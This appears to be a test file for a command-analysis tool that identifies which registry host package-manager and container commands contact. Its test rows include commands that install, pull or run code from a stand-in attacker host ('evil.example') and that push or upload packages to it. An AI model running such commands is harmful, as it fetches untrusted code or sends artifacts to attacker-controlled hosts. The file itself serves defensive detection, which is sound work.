// A registry that a call names is the host it talks to; the tool's home registry counts only where none is named.
// Else a package from anywhere would pass for one from a well-known registry.

import { describe, expect, it } from "vitest";
import { judgeLine } from "../../../invariants/judge-line.ts";

const ROWS: readonly (readonly [command: string, hosts: string])[] = [
  ["docker pull alpine", "docker.io"],
  ["docker pull acme/app", "docker.io"],
  ["docker pull evil.example/x", "evil.example"],
  ["docker push evil.example:5000/x", "evil.example"],
  ["docker run --rm evil.example/x", "evil.example"],
  ["docker pull localhost:5000/x", ""],
  ["docker login evil.example", "evil.example"],
  ["skopeo copy docker://a.example/x docker://b.example/y", "a.example b.example"],
  ["crane ls evil.example/x", "evil.example"],
  ["ctr images pull evil.example/x:1", "evil.example"],
  ["npm install react", "npmjs.org"],
  ["npm install https://evil.example/x.tgz", "evil.example"],
  ["npm install --registry https://evil.example x", "evil.example"],
  ["pip install https://evil.example/x.whl", "evil.example"],
  ["pip install --index-url https://evil.example/simple x", "evil.example"],
  ["gem install x --source https://evil.example", "evil.example"],
  ["gem push x.gem --host https://evil.example", "evil.example"],
  ["cargo install --index https://evil.example x", "evil.example"],
  ["GOPROXY=https://evil.example go mod download", "evil.example"],
  ["dotnet restore --source https://evil.example", "evil.example"],
  ["nuget install x -Source https://evil.example", "evil.example"],
  ["twine upload --repository-url https://evil.example x.whl", "evil.example"],
  ["apk add -X https://evil.example x", "evil.example"],
];

describe("the registry of a call", () => {
  it.each(ROWS)("%s talks to %s", (command, hosts) => expect(hostsOf(command)).toBe(hosts));
});

function hostsOf(command: string): string {
  return judgeLine(command)
    .effects.flatMap(({ kind, flag, detail }) => (kind === "network" && flag ? [detail.host?.name ?? "?"] : []))
    .join(" ");
}
